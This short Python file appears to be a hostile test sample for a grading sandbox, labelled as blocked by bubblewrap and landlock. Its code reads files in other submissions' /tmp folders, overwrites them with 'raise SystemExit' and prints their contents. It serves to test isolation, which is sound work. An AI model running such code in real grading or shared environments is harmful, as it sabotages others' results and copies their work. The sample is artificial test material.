"""Reads and overwrites what lies in other submissions' folders.

Harm: a neighbour's verdict changes, its work is copied
Base: 06_shared_counter/wrong/no_lock.py
Honest: total_is_kept, counters_are_independent
Held: bubblewrap, landlock
"""

import glob
import os

for path in glob.glob("/tmp/bakehouse-*/**/*", recursive=True) + glob.glob("/tmp/*/**/*.py", recursive=True)[:500]:
    if os.path.isfile(path) and os.path.dirname(__file__) not in path:
        try:
            with open(path, "r+") as file:
                text = file.read()
                if "bakehouse" in path:
                    file.seek(0)
                    file.write("raise SystemExit")
                    print("planted secret: wrote", path, text[:50])
        except (OSError, ValueError):
            pass
